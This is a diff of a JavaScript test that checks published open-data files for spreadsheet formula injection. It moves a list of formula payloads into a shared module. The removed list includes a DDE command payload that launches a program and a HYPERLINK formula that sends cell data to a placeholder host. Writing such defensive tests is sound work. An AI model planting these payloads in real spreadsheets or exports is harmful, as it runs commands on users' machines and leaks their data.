@@ -7,28 +7,13 @@ import { before, describe, it } from 'node:test';
 import Papa from 'papaparse';
 import { loadSource } from '../../../scripts/build/load-source.js';
 
-const FORMULAS = [
-  '=1+1',
-  '+33 1',
-  '-1+1',
-  '@SUM(A1)',
-  '=cmd|"/C calc"!A0',
-  '=HYPERLINK("https://x.example?"&A1)\nsuite',
-  '\n=1',
-  '\t=1',
-  '\r=1',
-  ' =1',
-  '\u00a0=1',
-  '\0=1',
-  '\u0001=1',
-  '＝1',
-  '＋1',
-  '－1',
-  '＠SUM(A1)',
-];
 /** What runs, or is read as nothing before what runs. */
 const RUNS = /^[\s\p{Cc}]*[=+\-@＝＋－＠]|^[\t\r\n]/u;
 
+/** A table may end the lines within a cell in its own way. */
+const lines = (text) => text.replace(/\r\n?/g, '\n');
+
+const { FORMULAS } = await loadSource('test/support/payloads.ts');
 let openData, readFeed, everyText, logRemoval;
 before(async () => {
   ({ openData } = await loadSource('src/publish/open-data/files.ts'));
@@ -49,7 +34,7 @@ describe('a formula', () => {
         for (const [row, line] of data.entries()) {
           for (const cell of row ? line : []) {
             // A number is one: nothing is run.
-            if (cell.includes(formula.trim()) && !/^-?\d+$/.test(cell)) cells++;
+            if (lines(cell).includes(lines(formula.trim())) && !/^-?\d+$/.test(cell)) cells++;
             assert.ok(!RUNS.test(cell) || /^-?\d+([.,]\d+)?$/.test(cell), `${name}: ${JSON.stringify(cell)}`);
           }
         }
